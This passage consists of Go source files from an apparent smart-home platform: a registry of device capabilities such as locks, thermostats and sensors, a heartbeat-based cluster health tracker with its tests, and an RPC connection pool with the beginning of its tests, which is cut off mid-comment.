func plain(cmd string, params ...Parameter) Command {
	return Command{Name: cmd, Params: params}
}

var registry = map[string]*Capability{}

func register(c *Capability) { registry[c.Name] = c }

// onOff declares a standard on/off switch-like capability.
func onOff(name string) *Capability {
	return &Capability{
		Name:       name,
		Attributes: []Attribute{enumAttr("switch", "on", "off")},
		Commands:   []Command{set("on", "switch", "on"), set("off", "switch", "off")},
	}
}

// sensorOnly declares a capability with attributes but no commands.
func sensorOnly(name string, attrs ...Attribute) *Capability {
	return &Capability{Name: name, Attributes: attrs}
}

func init() {
	// ---- Actuating capabilities ----
	register(&Capability{
		Name:       "alarm",
		Attributes: []Attribute{enumAttr("alarm", "off", "strobe", "siren", "both")},
		Commands: []Command{
			set("off", "alarm", "off"), set("strobe", "alarm", "strobe"),
			set("siren", "alarm", "siren"), set("both", "alarm", "both"),
		},
	})
	register(&Capability{
		Name:       "audioMute",
		Attributes: []Attribute{enumAttr("mute", "muted", "unmuted")},
		Commands:   []Command{set("mute", "mute", "muted"), set("unmute", "mute", "unmuted")},
	})
	register(&Capability{
		Name:     "audioNotification",
		Commands: []Command{plain("playText", Parameter{"text", Free}), plain("playTrack", Parameter{"uri", Free})},
	})
	register(&Capability{
		Name:       "audioVolume",
		Attributes: []Attribute{numAttr("volume", 0, 100)},
		Commands: []Command{
			setFrom("setVolume", "volume", Number),
			plain("volumeUp"), plain("volumeDown"),
		},
	})
	register(onOff("bulb"))
	register(&Capability{
		Name: "colorControl",
		Attributes: []Attribute{
			numAttr("hue", 0, 100), numAttr("saturation", 0, 100), freeAttr("color"),
		},
		Commands: []Command{
			plain("setColor", Parameter{"color", Free}),
			setFrom("setHue", "hue", Number),
			setFrom("setSaturation", "saturation", Number),
		},
	})
	register(&Capability{
		Name:       "colorTemperature",
		Attributes: []Attribute{numAttr("colorTemperature", 1000, 30000)},
		Commands:   []Command{setFrom("setColorTemperature", "colorTemperature", Number)},
	})
	register(&Capability{Name: "configuration", Commands: []Command{plain("configure")}})
	register(&Capability{
		Name:       "consumable",
		Attributes: []Attribute{enumAttr("consumableStatus", "good", "replace", "missing", "order", "maintenance_required")},
		Commands:   []Command{setFrom("setConsumableStatus", "consumableStatus", Enum)},
	})
	register(&Capability{
		Name:       "doorControl",
		Attributes: []Attribute{enumAttr("door", "open", "closed", "opening", "closing", "unknown")},
		Commands:   []Command{set("open", "door", "open"), set("close", "door", "closed")},
	})
	register(&Capability{Name: "execute", Commands: []Command{plain("execute", Parameter{"command", Free})}})
	register(&Capability{
		Name:       "fanSpeed",
		Attributes: []Attribute{numAttr("fanSpeed", 0, 4)},
		Commands:   []Command{setFrom("setFanSpeed", "fanSpeed", Number)},
	})
	register(&Capability{
		Name:       "garageDoorControl",
		Attributes: []Attribute{enumAttr("door", "open", "closed", "opening", "closing", "unknown")},
		Commands:   []Command{set("open", "door", "open"), set("close", "door", "closed")},
	})
	register(&Capability{
		Name:       "healthCheck",
		Attributes: []Attribute{numAttr("checkInterval", 0, 86400)},
		Commands:   []Command{plain("ping")},
	})
	register(&Capability{
		Name:       "imageCapture",
		Attributes: []Attribute{freeAttr("image")},
		Commands:   []Command{plain("take")},
	})
	register(&Capability{
		Name:       "indicator",
		Attributes: []Attribute{enumAttr("indicatorStatus", "when on", "when off", "never")},
		Commands: []Command{
			set("indicatorWhenOn", "indicatorStatus", "when on"),
			set("indicatorWhenOff", "indicatorStatus", "when off"),
			set("indicatorNever", "indicatorStatus", "never"),
		},
	})
	register(&Capability{
		Name:       "infraredLevel",
		Attributes: []Attribute{numAttr("infraredLevel", 0, 100)},
		Commands:   []Command{setFrom("setInfraredLevel", "infraredLevel", Number)},
	})
	register(onOff("light"))
	register(&Capability{
		Name:       "lock",
		Attributes: []Attribute{enumAttr("lock", "locked", "unlocked", "unknown", "unlocked with timeout")},
		Commands:   []Command{set("lock", "lock", "locked"), set("unlock", "lock", "unlocked")},
	})
	register(&Capability{
		Name:       "lockCodes",
		Attributes: []Attribute{freeAttr("codeReport"), freeAttr("lockCodes")},
		Commands: []Command{
			plain("setCode", Parameter{"slot", Number}, Parameter{"code", Free}),
			plain("deleteCode", Parameter{"slot", Number}),
			plain("requestCode", Parameter{"slot", Number}),
			plain("reloadAllCodes"),
		},
	})
	register(&Capability{
		Name:       "mediaController",
		Attributes: []Attribute{freeAttr("activities"), freeAttr("currentActivity")},
		Commands:   []Command{plain("startActivity", Parameter{"activity", Free})},
	})
	register(&Capability{
		Name:       "mediaInputSource",
		Attributes: []Attribute{freeAttr("inputSource")},
		Commands:   []Command{setFrom("setInputSource", "inputSource", Free)},
	})
	register(&Capability{
		Name:       "mediaPlayback",
		Attributes: []Attribute{enumAttr("playbackStatus", "playing", "paused", "stopped")},
		Commands: []Command{
			set("play", "playbackStatus", "playing"),
			set("pause", "playbackStatus", "paused"),
			set("stop", "playbackStatus", "stopped"),
		},
	})
	register(&Capability{
		Name:       "mediaPlaybackRepeat",
		Attributes: []Attribute{enumAttr("playbackRepeatMode", "all", "one", "off")},
		Commands:   []Command{setFrom("setPlaybackRepeatMode", "playbackRepeatMode", Enum)},
	})
	register(&Capability{
		Name:       "mediaPlaybackShuffle",
		Attributes: []Attribute{enumAttr("playbackShuffle", "enabled", "disabled")},
		Commands:   []Command{setFrom("setPlaybackShuffle", "playbackShuffle", Enum)},
	})
	register(&Capability{
		Name:       "mediaPresets",
		Attributes: []Attribute{freeAttr("presets")},
		Commands:   []Command{plain("playPreset", Parameter{"presetId", Free})},
	})
	register(&Capability{
		Name:       "mediaTrackControl",
		Attributes: []Attribute{freeAttr("supportedTrackControlCommands")},
		Commands:   []Command{plain("nextTrack"), plain("previousTrack")},
	})
	register(&Capability{Name: "momentary", Commands: []Command{plain("push")}})
	register(&Capability{
		Name: "musicPlayer",
		Attributes: []Attribute{
			enumAttr("status", "playing", "paused", "stopped"),
			numAttr("level", 0, 100),
			enumAttr("mute", "muted", "unmuted"),
			freeAttr("trackData"),
			freeAttr("trackDescription"),
		},
		Commands: []Command{
			set("play", "status", "playing"),
			set("pause", "status", "paused"),
			set("stop", "status", "stopped"),
			plain("nextTrack"), plain("previousTrack"),
			setFrom("setLevel", "level", Number),
			set("mute", "mute", "muted"),
			set("unmute", "mute", "unmuted"),
		},
	})
	register(&Capability{
		Name:     "notification",
		Commands: []Command{plain("deviceNotification", Parameter{"text", Free})},
	})
	register(onOff("outlet"))
	register(&Capability{Name: "polling", Commands: []Command{plain("poll")}})
	register(&Capability{Name: "refresh", Commands: []Command{plain("refresh")}})
	register(onOff("relaySwitch"))
	register(&Capability{
		Name:     "speechSynthesis",
		Commands: []Command{plain("speak", Parameter{"text", Free})},
	})
	register(onOff("switch"))
	register(&Capability{
		Name:       "switchLevel",
		Attributes: []Attribute{numAttr("level", 0, 100)},
		Commands:   []Command{setFrom("setLevel", "level", Number)},
	})
	register(&Capability{
		Name: "thermostat",
		Attributes: []Attribute{
			numAttr("temperature", -40, 150),
			numAttr("heatingSetpoint", 35, 95),
			numAttr("coolingSetpoint", 35, 95),
			enumAttr("thermostatMode", "off", "heat", "cool", "auto", "emergency heat"),
			enumAttr("thermostatFanMode", "auto", "on", "circulate"),
			enumAttr("thermostatOperatingState", "heating", "cooling", "idle", "fan only", "pending heat", "pending cool"),
		},
		Commands: []Command{
			setFrom("setHeatingSetpoint", "heatingSetpoint", Number),
			setFrom("setCoolingSetpoint", "coolingSetpoint", Number),
			setFrom("setThermostatMode", "thermostatMode", Enum),
			setFrom("setThermostatFanMode", "thermostatFanMode", Enum),
			set("off", "thermostatMode", "off"),
			set("heat", "thermostatMode", "heat"),
			set("cool", "thermostatMode", "cool"),
			set("auto", "thermostatMode", "auto"),
		},
	})
	register(&Capability{
		Name:       "thermostatCoolingSetpoint",
		Attributes: []Attribute{numAttr("coolingSetpoint", 35, 95)},
		Commands:   []Command{setFrom("setCoolingSetpoint", "coolingSetpoint", Number)},
	})
	register(&Capability{
		Name:       "thermostatFanMode",
		Attributes: []Attribute{enumAttr("thermostatFanMode", "auto", "on", "circulate")},
		Commands: []Command{
			set("fanOn", "thermostatFanMode", "on"),
			set("fanAuto", "thermostatFanMode", "auto"),
			set("fanCirculate", "thermostatFanMode", "circulate"),
			setFrom("setThermostatFanMode", "thermostatFanMode", Enum),
		},
	})
	register(&Capability{
		Name:       "thermostatHeatingSetpoint",
		Attributes: []Attribute{numAttr("heatingSetpoint", 35, 95)},
		Commands:   []Command{setFrom("setHeatingSetpoint", "heatingSetpoint", Number)},
	})
	register(&Capability{
		Name:       "thermostatMode",
		Attributes: []Attribute{enumAttr("thermostatMode", "off", "heat", "cool", "auto", "emergency heat")},
		Commands: []Command{
			set("heat", "thermostatMode", "heat"),
			set("cool", "thermostatMode", "cool"),
			set("auto", "thermostatMode", "auto"),
			set("off", "thermostatMode", "off"),
			set("emergencyHeat", "thermostatMode", "emergency heat"),
			setFrom("setThermostatMode", "thermostatMode", Enum),
		},
	})
	register(&Capability{
		Name:       "timedSession",
		Attributes: []Attribute{enumAttr("sessionStatus", "stopped", "canceled", "running", "paused")},
		Commands: []Command{
			set("start", "sessionStatus", "running"),
			set("stop", "sessionStatus", "stopped"),
			set("cancel", "sessionStatus", "canceled"),
		},
	})
	register(&Capability{Name: "tone", Commands: []Command{plain("beep")}})
	register(&Capability{
		Name:       "tvChannel",
		Attributes: []Attribute{numAttr("tvChannel", 0, 999)},
		Commands: []Command{
			plain("channelUp"), plain("channelDown"),
			setFrom("setTvChannel", "tvChannel", Number),
		},
	})
	register(&Capability{
		Name:       "valve",
		Attributes: []Attribute{enumAttr("valve", "open", "closed")},
		Commands:   []Command{set("open", "valve", "open"), set("close", "valve", "closed")},
	})
	register(&Capability{
		Name:       "videoCamera",
		Attributes: []Attribute{enumAttr("camera", "on", "off", "restarting", "unavailable")},
		Commands:   []Command{set("on", "camera", "on"), set("off", "camera", "off")},
	})
	register(&Capability{
		Name:       "videoCapture",
		Attributes: []Attribute{freeAttr("clip")},
		Commands:   []Command{plain("capture")},
	})
	register(&Capability{
		Name:       "windowShade",
		Attributes: []Attribute{enumAttr("windowShade", "open", "closed", "partially open", "opening", "closing", "unknown")},
		Commands: []Command{
			set("open", "windowShade", "open"),
			set("close", "windowShade", "closed"),
			set("presetPosition", "windowShade", "partially open"),
		},
	})
	register(&Capability{
		Name:       "windowShadeLevel",
		Attributes: []Attribute{numAttr("shadeLevel", 0, 100)},
		Commands:   []Command{setFrom("setShadeLevel", "shadeLevel", Number)},
	})
	register(&Capability{
		Name:       "ovenMode",
		Attributes: []Attribute{enumAttr("ovenMode", "heating", "grill", "warming", "defrosting", "off")},
		Commands:   []Command{setFrom("setOvenMode", "ovenMode", Enum)},
	})
	register(&Capability{
		Name:       "ovenSetpoint",
		Attributes: []Attribute{numAttr("ovenSetpoint", 0, 500)},
		Commands:   []Command{setFrom("setOvenSetpoint", "ovenSetpoint", Number)},
	})
	register(&Capability{
		Name:       "dishwasherMode",
		Attributes: []Attribute{enumAttr("dishwasherMode", "eco", "intense", "auto", "quick", "off")},
		Commands:   []Command{setFrom("setDishwasherMode", "dishwasherMode", Enum)},
	})
	register(&Capability{
		Name:       "dishwasherOperatingState",
		Attributes: []Attribute{enumAttr("machineState", "pause", "run", "stop")},
		Commands:   []Command{setFrom("setMachineState", "machineState", Enum)},
	})
	register(&Capability{
		Name:       "ovenOperatingState",
		Attributes: []Attribute{enumAttr("machineState", "ready", "running", "paused")},
		Commands:   []Command{setFrom("setMachineState", "machineState", Enum)},
	})
	register(&Capability{
		Name:       "dryerMode",
		Attributes: []Attribute{enumAttr("dryerMode", "regular", "lowHeat", "highHeat", "off")},
		Commands:   []Command{setFrom("setDryerMode", "dryerMode", Enum)},
	})
	register(&Capability{
		Name:       "dryerOperatingState",
		Attributes: []Attribute{enumAttr("machineState", "pause", "run", "stop")},
		Commands:   []Command{setFrom("setMachineState", "machineState", Enum)},
	})
	register(&Capability{
		Name:       "washerMode",
		Attributes: []Attribute{enumAttr("washerMode", "regular", "heavy", "rinse", "spinDry", "off")},
		Commands:   []Command{setFrom("setWasherMode", "washerMode", Enum)},
	})
	register(&Capability{
		Name:       "washerOperatingState",
		Attributes: []Attribute{enumAttr("machineState", "pause", "run", "stop")},
		Commands:   []Command{setFrom("setMachineState", "machineState", Enum)},
	})
	register(&Capability{
		Name:       "airConditionerMode",
		Attributes: []Attribute{enumAttr("airConditionerMode", "cool", "dry", "fanOnly", "heat", "auto", "off")},
		Commands:   []Command{setFrom("setAirConditionerMode", "airConditionerMode", Enum)},
	})
	register(&Capability{
		Name:       "airFlowDirection",
		Attributes: []Attribute{enumAttr("airFlowDirection", "fixed", "variable")},
		Commands:   []Command{setFrom("setAirFlowDirection", "airFlowDirection", Enum)},
	})
	register(&Capability{
		Name:       "fanOscillationMode",
		Attributes: []Attribute{enumAttr("fanOscillationMode", "fixed", "vertical", "horizontal", "all")},
		Commands:   []Command{setFrom("setFanOscillationMode", "fanOscillationMode", Enum)},
	})
	register(&Capability{
		Name:       "humidifierMode",
		Attributes: []Attribute{enumAttr("humidifierMode", "auto", "low", "medium", "high", "off")},
		Commands:   []Command{setFrom("setHumidifierMode", "humidifierMode", Enum)},
	})
	register(&Capability{
		Name:       "dehumidifierMode",
		Attributes: []Attribute{enumAttr("dehumidifierMode", "cooling", "delayWash", "dry", "quickDry", "off")},
		Commands:   []Command{setFrom("setDehumidifierMode", "dehumidifierMode", Enum)},
	})
	register(&Capability{
		Name:       "robotCleanerCleaningMode",
		Attributes: []Attribute{enumAttr("robotCleanerCleaningMode", "auto", "part", "repeat", "manual", "stop")},
		Commands:   []Command{setFrom("setRobotCleanerCleaningMode", "robotCleanerCleaningMode", Enum)},
	})
	register(&Capability{
		Name:       "rapidCooling",
		Attributes: []Attribute{enumAttr("rapidCooling", "on", "off")},
		Commands:   []Command{setFrom("setRapidCooling", "rapidCooling", Enum)},
	})
	register(&Capability{
		Name:       "securitySystem",
		Attributes: []Attribute{enumAttr("securitySystemStatus", "armedStay", "armedAway", "disarmed")},
		Commands: []Command{
			set("armStay", "securitySystemStatus", "armedStay"),
			set("armAway", "securitySystemStatus", "armedAway"),
			set("disarm", "securitySystemStatus", "disarmed"),
		},
	})
	register(&Capability{
		Name:       "chime",
		Attributes: []Attribute{enumAttr("chime", "chime", "off")},
		Commands:   []Command{set("chime", "chime", "chime"), set("off", "chime", "off")},
	})

	// ---- Sensor-only capabilities ----
	register(sensorOnly("accelerationSensor", enumAttr("acceleration", "active", "inactive")))
	register(sensorOnly("airQualitySensor", numAttr("airQuality", 0, 500)))
	register(sensorOnly("battery", numAttr("battery", 0, 100)))
	register(sensorOnly("beacon", enumAttr("presence", "present", "not present")))
	register(sensorOnly("button", enumAttr("button", "pushed", "held")))
	register(sensorOnly("carbonDioxideMeasurement", numAttr("carbonDioxide", 0, 10000)))
	register(sensorOnly("carbonMonoxideDetector", enumAttr("carbonMonoxide", "clear", "detected", "tested")))
	register(sensorOnly("contactSensor", enumAttr("contact", "open", "closed")))
	register(sensorOnly("dustSensor", numAttr("fineDustLevel", 0, 1000)))
	register(sensorOnly("energyMeter", numAttr("energy", 0, 1000000)))
	register(sensorOnly("estimatedTimeOfArrival", freeAttr("eta")))
	register(sensorOnly("filterStatus", enumAttr("filterStatus", "normal", "replace")))
	register(sensorOnly("gasDetector", enumAttr("gas", "clear", "detected", "tested")))
	register(sensorOnly("illuminanceMeasurement", numAttr("illuminance", 0, 100000)))
	register(sensorOnly("motionSensor", enumAttr("motion", "active", "inactive")))
	register(sensorOnly("odorSensor", numAttr("odorLevel", 0, 100)))
	register(sensorOnly("pHMeasurement", numAttr("pH", 0, 14)))
	register(sensorOnly("powerMeter", numAttr("power", 0, 100000)))
	register(sensorOnly("powerSource", enumAttr("powerSource", "battery", "dc", "mains", "unknown")))
	register(sensorOnly("presenceSensor", enumAttr("presence", "present", "not present")))
	register(sensorOnly("relativeHumidityMeasurement", numAttr("humidity", 0, 100)))
	register(sensorOnly("shockSensor", enumAttr("shock", "detected", "clear")))
	register(sensorOnly("sleepSensor", enumAttr("sleeping", "sleeping", "not sleeping")))
	register(sensorOnly("smokeDetector", enumAttr("smoke", "clear", "detected", "tested")))
	register(sensorOnly("soundPressureLevel", numAttr("soundPressureLevel", 0, 200)))
	register(sensorOnly("soundSensor", enumAttr("sound", "detected", "not detected")))
	register(sensorOnly("speechRecognition", freeAttr("phraseSpoken")))
	register(sensorOnly("stepSensor", numAttr("steps", 0, 1000000), numAttr("goal", 0, 1000000)))
	register(sensorOnly("tamperAlert", enumAttr("tamper", "clear", "detected")))
	register(sensorOnly("temperatureMeasurement", numAttr("temperature", -40, 150)))
	register(sensorOnly("thermostatOperatingState",
		enumAttr("thermostatOperatingState", "heating", "cooling", "idle", "fan only", "pending heat", "pending cool")))
	register(sensorOnly("thermostatSetpoint", numAttr("thermostatSetpoint", 35, 95)))
	register(sensorOnly("touchSensor", enumAttr("touch", "touched")))
	register(sensorOnly("ultravioletIndex", numAttr("ultravioletIndex", 0, 15)))
	register(sensorOnly("voltageMeasurement", numAttr("voltage", 0, 500)))
	register(sensorOnly("waterSensor", enumAttr("water", "dry", "wet")))
}
