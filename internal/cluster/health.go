package cluster

import (
	"sort"
	"sync"
	"time"
)

// DefaultFailAfter is the consecutive missed-heartbeat count that
// declares a node down when HealthOptions leaves it zero. Three misses
// tolerates one dropped ping and one slow one without flapping; with a
// 250ms heartbeat a hard-killed node is declared dead inside a second.
const DefaultFailAfter = 3

// HealthOptions configures a Tracker.
type HealthOptions struct {
	// FailAfter is how many CONSECUTIVE failed probes mark a node down.
	// Zero means DefaultFailAfter. Recovery is asymmetric by design: one
	// successful probe brings the node back — a node that answers is a
	// node that can serve, while declaring death too eagerly would
	// trigger spurious failovers.
	FailAfter int

	// Now substitutes the clock in tests.
	Now func() time.Time

	// OnTransition, when set, is called (outside the tracker lock) each
	// time a node crosses up<->down. The gateway hangs failover on it.
	OnTransition func(nodeID string, up bool)
}

// NodeHealth is one node's observed state.
type NodeHealth struct {
	ID       string
	Up       bool
	Fails    int       // consecutive failed probes since the last success
	Since    time.Time // when the node entered its current up/down state
	LastErr  string    // most recent probe error ("" after a success)
	LastSeen time.Time // time of the last successful probe (zero if never)
}

// Tracker turns a stream of per-node probe results into up/down
// verdicts: down after FailAfter consecutive failures, up again after a
// single success. Nodes start up (optimistic — the fleet was presumably
// alive when the gateway booted, and a dead node fails its first K
// probes within K heartbeats anyway). Safe for concurrent use.
type Tracker struct {
	opts HealthOptions

	mu    sync.Mutex
	nodes map[string]*nodeState
}

type nodeState struct {
	NodeHealth
}

// NewTracker builds a tracker over the given node IDs.
func NewTracker(ids []string, opts HealthOptions) *Tracker {
	if opts.FailAfter <= 0 {
		opts.FailAfter = DefaultFailAfter
	}
	if opts.Now == nil {
		opts.Now = time.Now
	}
	t := &Tracker{opts: opts, nodes: make(map[string]*nodeState, len(ids))}
	now := opts.Now()
	for _, id := range ids {
		t.nodes[id] = &nodeState{NodeHealth{ID: id, Up: true, Since: now}}
	}
	return t
}

// ReportSuccess records a successful probe. It returns true when this
// probe recovered a down node.
func (t *Tracker) ReportSuccess(id string) (recovered bool) {
	t.mu.Lock()
	n := t.nodes[id]
	if n == nil {
		t.mu.Unlock()
		return false
	}
	now := t.opts.Now()
	n.Fails = 0
	n.LastErr = ""
	n.LastSeen = now
	recovered = !n.Up
	if recovered {
		n.Up = true
		n.Since = now
	}
	t.mu.Unlock()
	if recovered && t.opts.OnTransition != nil {
		t.opts.OnTransition(id, true)
	}
	return recovered
}

// ReportFailure records a failed probe. It returns true when this
// probe crossed the FailAfter threshold and declared the node down.
func (t *Tracker) ReportFailure(id string, err error) (wentDown bool) {
	t.mu.Lock()
	n := t.nodes[id]
	if n == nil {
		t.mu.Unlock()
		return false
	}
	n.Fails++
	if err != nil {
		n.LastErr = err.Error()
	}
	if n.Up && n.Fails >= t.opts.FailAfter {
		n.Up = false
		n.Since = t.opts.Now()
		wentDown = true
	}
	t.mu.Unlock()
	if wentDown && t.opts.OnTransition != nil {
		t.opts.OnTransition(id, false)
	}
	return wentDown
}

// Up reports whether a node is currently considered live. Unknown
// nodes are down.
func (t *Tracker) Up(id string) bool {
	t.mu.Lock()
	defer t.mu.Unlock()
	n := t.nodes[id]
	return n != nil && n.Up
}

// Down reports whether a node is currently considered dead — the form
// Ring.OwnerExcluding wants.
func (t *Tracker) Down(id string) bool { return !t.Up(id) }

// UpCount reports how many tracked nodes are live.
func (t *Tracker) UpCount() int {
	t.mu.Lock()
	defer t.mu.Unlock()
	c := 0
	for _, n := range t.nodes {
		if n.Up {
			c++
		}
	}
	return c
}

// Snapshot returns every node's state, sorted by ID.
func (t *Tracker) Snapshot() []NodeHealth {
	t.mu.Lock()
	out := make([]NodeHealth, 0, len(t.nodes))
	for _, n := range t.nodes {
		out = append(out, n.NodeHealth)
	}
	t.mu.Unlock()
	sort.Slice(out, func(i, j int) bool { return out[i].ID < out[j].ID })
	return out
}
