package cluster

import (
	"errors"
	"testing"
	"time"
)

// fakeClock is the injectable Now for tracker tests: no sleeps, every
// timestamp deterministic.
type fakeClock struct{ t time.Time }

func newFakeClock() *fakeClock {
	return &fakeClock{t: time.Date(2026, 8, 8, 12, 0, 0, 0, time.UTC)}
}
func (c *fakeClock) Now() time.Time                    { return c.t }
func (c *fakeClock) Advance(d time.Duration) time.Time { c.t = c.t.Add(d); return c.t }

// TestTrackerFailAfterK: a node survives K-1 consecutive misses, dies
// on the Kth, and the transition callback fires exactly once.
func TestTrackerFailAfterK(t *testing.T) {
	clock := newFakeClock()
	var transitions []string
	tr := NewTracker([]string{"n1", "n2"}, HealthOptions{
		FailAfter: 3,
		Now:       clock.Now,
		OnTransition: func(id string, up bool) {
			transitions = append(transitions, id+":"+map[bool]string{true: "up", false: "down"}[up])
		},
	})

	if !tr.Up("n1") || !tr.Up("n2") {
		t.Fatal("nodes must start up")
	}
	probeErr := errors.New("dial tcp: connection refused")
	for i := 0; i < 2; i++ {
		clock.Advance(250 * time.Millisecond)
		if down := tr.ReportFailure("n1", probeErr); down {
			t.Fatalf("node declared down after %d misses, FailAfter=3", i+1)
		}
	}
	if !tr.Up("n1") {
		t.Fatal("node down before the threshold")
	}
	clock.Advance(250 * time.Millisecond)
	if down := tr.ReportFailure("n1", probeErr); !down {
		t.Fatal("third consecutive miss did not declare the node down")
	}
	if tr.Up("n1") || tr.Down("n1") != true {
		t.Fatal("Up/Down disagree with the declared state")
	}
	// Further misses keep it down without re-firing the transition.
	tr.ReportFailure("n1", probeErr)
	if got := len(transitions); got != 1 || transitions[0] != "n1:down" {
		t.Fatalf("transitions = %v, want exactly [n1:down]", transitions)
	}
	if tr.UpCount() != 1 {
		t.Fatalf("UpCount = %d, want 1", tr.UpCount())
	}
}

// TestTrackerSuccessResetsStreak: a success between misses resets the
// consecutive counter, so K scattered failures never kill a node.
func TestTrackerSuccessResetsStreak(t *testing.T) {
	clock := newFakeClock()
	tr := NewTracker([]string{"n1"}, HealthOptions{FailAfter: 3, Now: clock.Now})
	err := errors.New("timeout")
	for round := 0; round < 5; round++ {
		tr.ReportFailure("n1", err)
		tr.ReportFailure("n1", err)
		tr.ReportSuccess("n1")
	}
	if !tr.Up("n1") {
		t.Fatal("interleaved successes did not keep the node up")
	}
	if s := tr.Snapshot()[0]; s.Fails != 0 || s.LastErr != "" {
		t.Fatalf("snapshot after success: fails=%d lastErr=%q, want clean", s.Fails, s.LastErr)
	}
}

// TestTrackerRecoverOnProbe: one successful probe brings a dead node
// back, firing the up transition.
func TestTrackerRecoverOnProbe(t *testing.T) {
	clock := newFakeClock()
	var ups, downs int
	tr := NewTracker([]string{"n1"}, HealthOptions{
		FailAfter: 2,
		Now:       clock.Now,
		OnTransition: func(id string, up bool) {
			if up {
				ups++
			} else {
				downs++
			}
		},
	})
	err := errors.New("conn reset")
	tr.ReportFailure("n1", err)
	tr.ReportFailure("n1", err)
	if tr.Up("n1") {
		t.Fatal("node still up past the threshold")
	}
	downAt := clock.Now()
	clock.Advance(5 * time.Second)
	if recovered := tr.ReportSuccess("n1"); !recovered {
		t.Fatal("successful probe did not report recovery")
	}
	if !tr.Up("n1") {
		t.Fatal("node still down after a successful probe")
	}
	s := tr.Snapshot()[0]
	if !s.Since.After(downAt) {
		t.Fatalf("Since not updated on recovery: %v", s.Since)
	}
	if s.LastSeen != clock.Now() {
		t.Fatalf("LastSeen = %v, want %v", s.LastSeen, clock.Now())
	}
	if ups != 1 || downs != 1 {
		t.Fatalf("transitions up=%d down=%d, want 1/1", ups, downs)
	}
}

// TestTrackerUnknownNode: reports against untracked IDs are inert and
// unknown nodes read as down (never a failover target).
func TestTrackerUnknownNode(t *testing.T) {
	tr := NewTracker([]string{"n1"}, HealthOptions{})
	if tr.ReportFailure("ghost", errors.New("x")) || tr.ReportSuccess("ghost") {
		t.Fatal("reports against an unknown node produced transitions")
	}
	if tr.Up("ghost") {
		t.Fatal("unknown node reads as up")
	}
	if got := len(tr.Snapshot()); got != 1 {
		t.Fatalf("snapshot has %d nodes, want 1", got)
	}
}

// TestTrackerSnapshotSorted keeps the admin/metrics view stable.
func TestTrackerSnapshotSorted(t *testing.T) {
	tr := NewTracker([]string{"zeta", "alpha", "mid"}, HealthOptions{})
	s := tr.Snapshot()
	if s[0].ID != "alpha" || s[1].ID != "mid" || s[2].ID != "zeta" {
		t.Fatalf("snapshot order %v, want sorted by ID", []string{s[0].ID, s[1].ID, s[2].ID})
	}
}
