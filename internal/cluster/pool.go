package cluster

import (
	"sync"
	"time"

	"homeguard/internal/rpc"
)

// DefaultDialTimeout bounds a pool dial when PoolOptions leaves it
// zero.
const DefaultDialTimeout = 2 * time.Second

// PoolOptions configures a Pool.
type PoolOptions struct {
	// DialTimeout bounds each connect attempt. Zero means
	// DefaultDialTimeout.
	DialTimeout time.Duration

	// Dial substitutes the dialer in tests. Nil means rpc.DialTimeout.
	Dial func(addr string) (*rpc.Client, error)
}

// Pool caches one RPC client per node address, re-dialing lazily when
// a cached connection has died. HGRPC multiplexes concurrent calls by
// stream id over one connection, so one client per node is the right
// amount of connections, not a limitation. Safe for concurrent use.
type Pool struct {
	opts PoolOptions

	mu    sync.Mutex
	conns map[string]*rpc.Client
}

// NewPool builds an empty pool.
func NewPool(opts PoolOptions) *Pool {
	if opts.DialTimeout <= 0 {
		opts.DialTimeout = DefaultDialTimeout
	}
	if opts.Dial == nil {
		opts.Dial = func(addr string) (*rpc.Client, error) {
			return rpc.DialTimeout(addr, opts.DialTimeout)
		}
	}
	return &Pool{opts: opts, conns: map[string]*rpc.Client{}}
}

// Get returns a live client for addr, dialing if the cache is empty or
// holds a dead connection. A dial failure is a typed UNAVAILABLE
// *api.Error (from rpc.Dial), so it flows straight into Retryable.
func (p *Pool) Get(addr string) (*rpc.Client, error) {
	p.mu.Lock()
	if c := p.conns[addr]; c != nil {
		if c.Err() == nil {
			p.mu.Unlock()
			return c, nil
		}
		delete(p.conns, addr)
		defer c.Close()
	}
	p.mu.Unlock()

	// Dial outside the lock: a down node's connect timeout must not
	// stall Gets for other addresses.
	c, err := p.opts.Dial(addr)
	if err != nil {
		return nil, err
	}
	p.mu.Lock()
	defer p.mu.Unlock()
	if prev := p.conns[addr]; prev != nil && prev.Err() == nil {
		// A concurrent Get won the dial race; keep the established one.
		c.Close()
		return prev, nil
	}
	p.conns[addr] = c
	return c, nil
}

// Discard drops c from the cache (if it is still the cached client for
// addr) and closes it. Callers invoke it when a call fails with a
// transport error, so the next Get re-dials instead of reusing a
// half-dead connection.
func (p *Pool) Discard(addr string, c *rpc.Client) {
	if c == nil {
		return
	}
	p.mu.Lock()
	if p.conns[addr] == c {
		delete(p.conns, addr)
	}
	p.mu.Unlock()
	c.Close()
}

// Close tears down every cached connection.
func (p *Pool) Close() {
	p.mu.Lock()
	conns := p.conns
	p.conns = map[string]*rpc.Client{}
	p.mu.Unlock()
	for _, c := range conns {
		c.Close()
	}
}
