package cluster

import (
	"context"
	"net"
	"runtime"
	"testing"

	"homeguard/internal/fleet"
	"homeguard/internal/rpc"
)

// startNode boots a real fleet + RPC edge on a loopback listener and
// returns its address. Shutdown runs via t.Cleanup.
func startNode(t *testing.T, nodeID string) (addr string, srv *rpc.Server) {
	t.Helper()
	f := fleet.New(fleet.Options{Shards: 4})
	svc := rpc.NewService(f, rpc.ServiceOptions{NodeID: nodeID})
	srv = rpc.NewServer(svc, rpc.ServerOptions{})
	lis, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	go srv.Serve(lis)
	t.Cleanup(func() { srv.Close() })
	return lis.Addr().String(), srv
}

// TestPoolReusesConnection: Get hands the same multiplexed client back
// for repeated calls to one address, and distinct clients per address.
func TestPoolReusesConnection(t *testing.T) {
	addrA, _ := startNode(t, "node-a")
	addrB, _ := startNode(t, "node-b")
	p := NewPool(PoolOptions{})
	defer p.Close()

	c1, err := p.Get(addrA)
	if err != nil {
		t.Fatalf("Get: %v", err)
	}
	c2, err := p.Get(addrA)
	if err != nil {
		t.Fatalf("Get again: %v", err)
	}
	if c1 != c2 {
		t.Fatal("pool dialed twice for one live address")
	}
	cb, err := p.Get(addrB)
	if err != nil {
		t.Fatalf("Get B: %v", err)
	}
	if cb == c1 {
		t.Fatal("pool shared one client across addresses")
	}

	pa, err := c1.Ping(context.Background())
	if err != nil || pa.Node != "node-a" {
		t.Fatalf("ping via pooled client: %v %v", pa, err)
	}
	pb, err := cb.Ping(context.Background())
	if err != nil || pb.Node != "node-b" {
		t.Fatalf("ping via pooled client: %v %v", pb, err)
	}
}

// TestPoolDiscardAndRedial: after a node dies, the failed call's error
// is typed UNAVAILABLE (so the retry layer classifies it), Discard
